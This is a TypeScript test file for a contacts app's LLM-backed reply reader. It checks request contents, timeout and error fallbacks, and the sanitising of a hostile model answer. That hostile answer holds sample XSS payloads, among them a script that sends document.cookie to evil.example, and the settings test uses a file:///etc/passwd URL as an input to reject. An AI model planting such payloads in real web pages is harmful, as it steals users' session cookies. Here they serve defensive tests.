// The model reader over real HTTP against a stand-in chat-completions server: what it sends,
// what it keeps of a good answer, and how it falls back on a bad, hostile or slow one.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { CONTACTS, inputOf } from "../../../core/assistant/replies-table-kit";
import {
  actionsAnswer,
  MALFORMED_ANSWER,
  startFakeChatModel,
  type FakeChatModel,
} from "../../../../tests/helpers/fake-chat-model";
import { parseEnv } from "../../env";
import { createReplyReader } from "./model-reader";

let fake: FakeChatModel;
const warnings: string[] = [];
const log = { warn: (_details: object, message: string) => void warnings.push(message) };

beforeAll(async () => {
  fake = await startFakeChatModel();
});
afterAll(async () => {
  await fake.close();
});
beforeEach(() => {
  fake.requests.length = 0;
  warnings.length = 0;
});

function modelReader(timeoutMs?: number) {
  return createReplyReader(
    { AI_API_URL: fake.url, AI_MODEL: "llama3.2", AI_API_KEY: "sk-local-test" },
    { log, timeoutMs },
  );
}

const coffee = (contactId: string | null, extra: Record<string, unknown> = {}) => ({
  details: { kind: "interaction", date: "2026-12-01", channel: "in_person", note: "coffee" },
  contactId,
  candidateIds: [],
  name: "Grace",
  sure: true,
  evidence: "had coffee with grace yesterday",
  ...extra,
});

const TEXT = "had coffee with grace yesterday, she's moving to Lisbon";

describe("the reply reader", () => {
  test("with no model configured reads on this machine and asks no one", async () => {
    for (const env of [{}, { AI_API_URL: fake.url }, { AI_MODEL: "llama3.2" }]) {
      const reader = createReplyReader(env, { log });
      expect(reader).toMatchObject({ kind: "builtin", label: "On this machine" });
      const result = await reader.read(inputOf(TEXT));
      expect(result.readBy).toBe("builtin");
      expect(result.actions.map((a) => [a.details.kind, a.contactId, a.sure])).toEqual([
        ["place", "grace", false],
        ["interaction", "grace", true],
      ]);
    }
    expect(fake.requests).toHaveLength(0);
  });

  test("a good answer is used, and the model is sent only ids, names, addresses and the text", async () => {
    fake.answerWith(
      actionsAnswer([
        coffee("grace"),
        {
          details: { kind: "place", name: "Lisbon", placeId: "made-up" },
          contactId: "grace",
          candidateIds: [],
          name: "grace",
          sure: true,
          evidence: "she's moving to Lisbon",
        },
      ]),
    );
    const reader = modelReader();
    expect(reader).toMatchObject({ kind: "model", label: `llama3.2 at ${new URL(fake.url).host}` });
    // A household's line first ("The Carters"), then Alan: the model is told what each number is.
    const input = inputOf(TEXT, { digest: [["samc", "noor"], "alan"] });
    input.contacts = CONTACTS.map((c) => ({ ...c, company: "Secret Corp" }));
    const result = await reader.read(input);
    expect(result.readBy).toBe("llama3.2");
    expect(result.actions).toEqual([
      { ...coffee("grace") },
      {
        details: { kind: "place", name: "Lisbon", placeId: null },
        contactId: "grace",
        candidateIds: [],
        name: "grace",
        sure: false,
        evidence: "she's moving to Lisbon",
      },
    ]);
    const [request] = fake.requests;
    expect(request?.authorization).toBe("Bearer sk-local-test");
    expect(request?.body.model).toBe("llama3.2");
    const [system, user] = request?.body.messages ?? [];
    expect(user).toEqual({ role: "user", content: TEXT });
    expect(system?.content).toContain('"id":"grace","name":"Grace Hopper"');
    expect(system?.content).toContain("grace@navy.mil");
    expect(system?.content).toContain("2026-12-02");
    expect(system?.content).toContain('{"1":["samc","noor"],"2":["alan"]}');
    expect(system?.content).not.toContain("Secret Corp");
    expect(warnings).toEqual([]);
  });

  test("an answer in a Markdown fence is read", async () => {
    fake.answerWith({
      content: "```json\n" + JSON.stringify({ actions: [coffee("grace")] }) + "\n```",
    });
    const result = await modelReader().read(inputOf(TEXT));
    expect(result.readBy).toBe("llama3.2");
    expect(result.actions).toHaveLength(1);
  });

  test("a hostile answer is held to the rules: only the user's contacts, clean notes, no applied future", async () => {
    fake.answerWith(
      actionsAnswer([
        coffee("someone-elses-contact", { name: null }),
        coffee("another-users-grace", { name: "Grace <b>Hopper</b>" }),
        coffee(null, { candidateIds: ["grace", "someone-elses-contact"], name: "Grace" }),
        coffee(null, { candidateIds: ["stranger-1", "stranger-2"], name: null }),
        coffee("alan", {
          details: {
            kind: "interaction",
            date: "2026-12-01",
            channel: "in_person",
            note: '<script>fetch("https://evil.example/?c="+document.cookie)</script>coffee',
          },
          evidence: "<img src=x onerror=alert(1)>coffee with alan",
        }),
        coffee("ada", {
          details: { kind: "interaction", date: "2027-01-05", channel: "phone", note: null },
        }),
        {
          details: { kind: "note", text: "<script>alert(1)</script>" },
          contactId: "zoe",
          candidateIds: [],
          name: null,
          sure: true,
          evidence: "",
        },
        {
          details: { kind: "email", value: "not an address" },
          contactId: "zoe",
          candidateIds: [],
          name: null,
          sure: true,
          evidence: "",
        },
      ]),
    );
    const result = await modelReader().read(inputOf(TEXT));
    expect(result.readBy).toBe("llama3.2");
    const serialised = JSON.stringify(result.actions);
    expect(serialised).not.toMatch(/someone-elses|another-users|stranger|<script|<img|<b>/);
    expect(result.actions.map((a) => [a.contactId, a.candidateIds, a.name, a.sure])).toEqual([
      [null, [], "Grace Hopper", false],
      ["grace", [], "Grace", false],
      ["alan", [], "Grace", true],
      ["ada", [], "Grace", false],
    ]);
    expect(result.actions[2]?.details).toEqual({
      kind: "interaction",
      date: "2026-12-01",
      channel: "in_person",
      note: "coffee",
    });
    expect(result.actions[2]?.evidence).toBe("coffee with alan");
  });

  test.each([
    ["malformed JSON", MALFORMED_ANSWER],
    [
      "an answer outside the schema",
      { content: JSON.stringify({ actions: [{ kind: "delete_everything" }] }) },
    ],
    ["a server error", { status: 500, content: "overloaded" }],
    ["a missing model", { status: 404, body: '{"error":{"message":"model not found"}}' }],
    ["a body that is not JSON", { body: "<html>bad gateway</html>" }],
  ])("%s falls back to the built-in reader with a warning", async (_what, answer) => {
    fake.answerWith(answer);
    const result = await modelReader().read(inputOf(TEXT));
    expect(result.readBy).toBe("builtin");
    expect(result.actions.map((a) => [a.details.kind, a.contactId])).toEqual([
      ["place", "grace"],
      ["interaction", "grace"],
    ]);
    expect(fake.requests).toHaveLength(1);
    expect(warnings).toEqual([
      "the language model could not read a reply; the built-in reader read it",
    ]);
  });

  test("a slow model is given up on at the timeout, and the built-in reader answers", async () => {
    fake.answerWith({ ...actionsAnswer([coffee("grace")]), delayMs: 3_000 });
    const started = Date.now();
    const result = await modelReader(300).read(inputOf(TEXT));
    expect(Date.now() - started).toBeLessThan(2_500);
    expect(result.readBy).toBe("builtin");
    expect(warnings).toHaveLength(1);
  });

  test("an unreachable server falls back too", async () => {
    const reader = createReplyReader(
      { AI_API_URL: "http://127.0.0.1:9/v1", AI_MODEL: "llama3.2" },
      { log, timeoutMs: 2_000 },
    );
    const result = await reader.read(inputOf("all done"));
    expect(result.readBy).toBe("builtin");
    expect(result.actions).toHaveLength(3);
  });
});

describe("the model's settings", () => {
  test("are optional, validated, and named together", () => {
    const base = { NODE_ENV: "test", AUTH_SECRET: "x".repeat(32) };
    expect(parseEnv(base).AI_API_URL).toBeUndefined();
    const env = parseEnv({
      ...base,
      AI_API_URL: "http://127.0.0.1:11434/v1",
      AI_MODEL: "llama3.2",
    });
    expect(env).toMatchObject({ AI_API_URL: "http://127.0.0.1:11434/v1", AI_MODEL: "llama3.2" });
    expect(() => parseEnv({ ...base, AI_API_URL: "not a url", AI_MODEL: "m" })).toThrow(
      /AI_API_URL/,
    );
    expect(() => parseEnv({ ...base, AI_API_URL: "file:///etc/passwd", AI_MODEL: "m" })).toThrow(
      /AI_API_URL: must be an http\(s\) URL/,
    );
    expect(() => parseEnv({ ...base, AI_API_URL: "http://127.0.0.1:11434/v1" })).toThrow(
      /AI_MODEL: AI_API_URL and AI_MODEL must be set together/,
    );
  });
});
